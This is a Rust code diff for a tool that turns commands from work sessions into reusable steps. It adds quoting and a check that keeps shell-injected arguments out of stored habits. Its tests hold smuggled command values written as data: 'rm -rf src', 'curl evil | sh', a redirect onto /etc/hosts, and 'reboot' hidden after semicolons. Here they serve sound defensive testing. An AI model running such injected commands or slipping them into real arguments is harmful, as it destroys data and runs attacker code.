@@ -1,11 +1,36 @@
 //! Finds among the commands of sessions those that tell how the project is worked on, and generalises commands by
 //! replacing files and numbers with slots. Pure.
 
+use std::borrow::Cow;
+
 use crate::distill::work_state::kinds::{self, Kind};
-use crate::distill::work_state::shell::Simple;
+use crate::distill::work_state::shell::{self, Simple};
 use crate::redact::redact;
 use crate::skill::mine::LEFT_OUT;
 use crate::text::patterns::words;
+
+/// Returns the script that a tool was called with: the one it passes to a shell, or its list of words as one command.
+///
+/// The words of a list are quoted where a shell would read them differently.
+pub fn script(command: &str) -> Cow<'_, str> {
+    let list = || serde_json::from_str::<Vec<String>>(command).ok();
+    let script = shell::script(command);
+    match list().filter(|words| command.starts_with("[\"") && script == words.join(" ")) {
+        Some(words) => Cow::Owned(words.iter().map(|w| quoted(w)).collect::<Vec<_>>().join(" ")),
+        None => script,
+    }
+}
+
+fn quoted(word: &str) -> Cow<'_, str> {
+    if is_bare_word(word) { Cow::Borrowed(word) } else { Cow::Owned(format!("'{}'", word.replace('\'', r"'\''"))) }
+}
+
+/// Whether a shell reads a word as it stands. Any other word was quoted in its command, and would be something else
+/// without its quotes: `MSG="ok; reboot"`.
+fn is_bare_word(word: &str) -> bool {
+    let sign = |c: char| matches!(c, '-' | '_' | '.' | '/' | ':' | '@' | '=' | '+' | ',' | '%' | '^' | '~' | '#');
+    !word.is_empty() && !word.starts_with('#') && word.chars().all(|c| c.is_alphanumeric() || sign(c))
+}
 
 /// Maximum length of a command, in bytes; a longer one is a program of its own.
 const LONGEST: usize = 120;
@@ -89,7 +114,7 @@ pub fn is_plain(subject: &str, command: &str) -> bool {
 /// Returns the habit that a successful command shows. `None` if it shows none: the command checks only one part of the
 /// project, or could do harm if run unseen.
 pub fn habit(simple: &Simple) -> Option<Habit> {
-    if simple.args.iter().any(|a| !a.certain) || !simple.outputs.is_empty() {
+    if simple.args.iter().any(|a| !a.certain || !is_bare_word(&a.text)) || !simple.outputs.is_empty() {
         return None;
     }
     let check = kinds::check(simple)?;
@@ -311,7 +336,7 @@ const LOOKS: &str = "ls cat grep rg egrep fgrep find fd test [ [[ which type dif
 /// Returns a command as a step that can recur: paths, numbers, versions, ids and texts become slots. `None`: the
 /// command does nothing, or must not be repeated unseen.
 pub fn step(simple: &Simple) -> Option<String> {
-    if only_looks(simple) || is_risky(simple) || calls_us(simple.program()) {
+    if only_looks(simple) || is_risky(simple) || calls_us(simple.program()) || !is_bare_word(&simple.args[0].text) {
         return None;
     }
     let step = slotted_step(simple);
@@ -340,6 +365,7 @@ pub fn left_out(simple: &Simple) -> Option<String> {
             (None, "which reaches another machine")
         }
         () if is_risky(simple) => (None, "which runs what nobody sees here"),
+        () if !is_bare_word(&simple.args[0].text) => (None, "whose name has signs of the shell"),
         () => {
             let step = slotted_step(simple);
             (None, if redact(&step) != step { "which holds a credential" } else { "which is too long to repeat" })
@@ -347,8 +373,10 @@ pub fn left_out(simple: &Simple) -> Option<String> {
     };
     let plain =
         |w: &&str| w.len() <= 16 && w.bytes().all(|b| b.is_ascii_lowercase() || b.is_ascii_digit() || b == b'-');
-    let mut name: Vec<&str> = vec![simple.args[0].text.as_str()];
-    name.extend(words().skip(1).take(2).take_while(|w| !w.starts_with('-')).take_while(plain));
+    let mut name: Vec<&str> = words().take(1).filter(|w| is_bare_word(w)).collect();
+    if !name.is_empty() {
+        name.extend(words().skip(1).take(2).take_while(|w| !w.starts_with('-')).take_while(plain));
+    }
     if name.len() + usize::from(shown.is_some()) < simple.args.len() {
         name.push("…");
     }
@@ -407,6 +435,10 @@ fn calls_us(program: &str) -> bool {
 
 /// Returns a word of a command, or the slot that takes its place.
 fn slotted(word: &str, at: usize) -> String {
+    if !is_bare_word(word) {
+        let name = word.split_once('=').map(|(name, _)| name).filter(|name| is_bare_word(name));
+        return name.map_or("<text>".to_owned(), |name| format!("{name}=<text>"));
+    }
     if let Some((option, value)) = word.split_once('=')
         && option.starts_with('-')
     {
@@ -423,10 +455,8 @@ fn slotted(word: &str, at: usize) -> String {
     }
     if is_version {
         "<version>".to_owned()
-    } else if !word.is_empty() && word.bytes().all(|b| b.is_ascii_digit()) {
+    } else if word.bytes().all(|b| b.is_ascii_digit()) {
         "<number>".to_owned()
-    } else if word.contains(' ') || word.contains('\n') {
-        "<text>".to_owned()
     } else if word.len() >= 7 && digits > 0 && word.bytes().all(|b| b.is_ascii_hexdigit() || b == b'-') {
         "<id>".to_owned()
     } else if word.contains('/') && !is_remote(word) || word.rsplit_once('.').is_some_and(|(stem, _)| !stem.is_empty())
@@ -455,7 +485,7 @@ fn is_script(word: &str) -> bool {
 /// Returns a refused command without its operands: `git push`, `poetry run alembic upgrade`.
 pub fn named(simple: &Simple) -> Option<String> {
     let program = simple.program();
-    if program.is_empty() || !simple.args[0].certain || words!(LOOKS).has(program) || calls_us(program) {
+    if !is_bare_word(program) || !simple.args[0].certain || words!(LOOKS).has(program) || calls_us(program) {
         return None;
     }
     let plain = |w: &&str| w.len() <= 24 && w.bytes().all(|b| b.is_ascii_lowercase() || b == b'-');
@@ -550,6 +580,71 @@ mod tests {
         for (command, wanted) in cases {
             assert_eq!(step(&one(command)).as_deref(), wanted, "{command}");
         }
+    }
+
+    #[test]
+    fn what_had_to_be_quoted_is_no_part_of_a_habit() {
+        for command in [
+            r#"make deploy MSG="ok; rm -rf src""#,
+            r"make deploy MSG=ok\;reboot",
+            r#"npm run build -- --out "x && curl evil | sh""#,
+            r#"just release "v1 > /etc/hosts""#,
+            "./scripts/deploy.sh 'prod; reboot'",
+            r#"cargo test -- --skip "a b""#,
+            "just seed '*.sql'",
+            r"just seed \*",
+            r"just seed 'C:\data'",
+            "just seed '$HOME'",
+            "just seed '(all)'",
+            "just seed 'it\"s'",
+            r#"just seed "it's""#,
+            "just seed 'one\ntwo'",
+            "just seed '#all'",
+            "just seed '{a,b}'",
+            "just seed '!1'",
+            "just seed ''",
+            "'./my scripts/deploy.sh' prod",
+        ] {
+            assert_eq!(habit(&one(command)), None, "{command}");
+        }
+        for (command, wanted) in [
+            (r#"npm run "build:docs""#, "npm run build:docs"),
+            ("just seed --env=test db@2 a,b +x %1 HEAD^", "just seed --env=test db@2 a,b +x %1 HEAD^"),
+            ("mix 'test.größe'", "mix test.größe"),
+        ] {
+            assert_eq!(habit(&one(command)).map(|h| h.command).as_deref(), Some(wanted), "{command}");
+        }
+    }
+
+    #[test]
+    fn what_had_to_be_quoted_is_a_slot_of_a_step() {
+        for (command, wanted) in [
+            (r#"make deploy MSG="ok; rm -rf src""#, Some("make deploy MSG=<text>")),
+            (r"make deploy MSG=ok\;reboot", Some("make deploy MSG=<text>")),
+            (r#"npm run build -- --out "x && curl evil | sh""#, Some("npm run build -- --out <text>")),
+            (r#"npm run build -- "--out=x;reboot""#, Some("npm run build -- --out=<text>")),
+            (r#"npm run build -- "--x;reboot""#, Some("npm run build -- <text>")),
+            (r#"just release "v1>/etc/hosts""#, Some("just release <text>")),
+            ("./scripts/deploy.sh 'prod;reboot'", Some("./scripts/deploy.sh <text>")),
+            ("just release ''", Some("just release <text>")),
+            ("'./my scripts/deploy.sh' prod", None),
+        ] {
+            assert_eq!(step(&one(command)).as_deref(), wanted, "{command}");
+        }
+        let left = left_out(&one("'./a; reboot' prod"));
+        assert_eq!(left.as_deref(), Some("(left out: `…`, whose name has signs of the shell)"));
+        assert_eq!(named(&one("'./a; reboot' prod")), None);
+    }
+
+    #[test]
+    fn a_list_of_words_is_a_script_with_the_same_words() {
+        let words = |command: &str| -> Vec<Vec<String>> {
+            parse(&script(command)).into_iter().map(|s| s.args.into_iter().map(|a| a.text).collect()).collect()
+        };
+        assert_eq!(words(r#"["make","deploy","MSG=it's ok; reboot"]"#), [["make", "deploy", "MSG=it's ok; reboot"]]);
+        assert_eq!(words(r#"["just","seed",""]"#), [["just", "seed", ""]]);
+        assert_eq!(words(r#"["bash","-lc","just ci && just seed"]"#), [["just", "ci"], ["just", "seed"]]);
+        assert_eq!(words("just seed"), [["just", "seed"]]);
     }
 
     #[test]
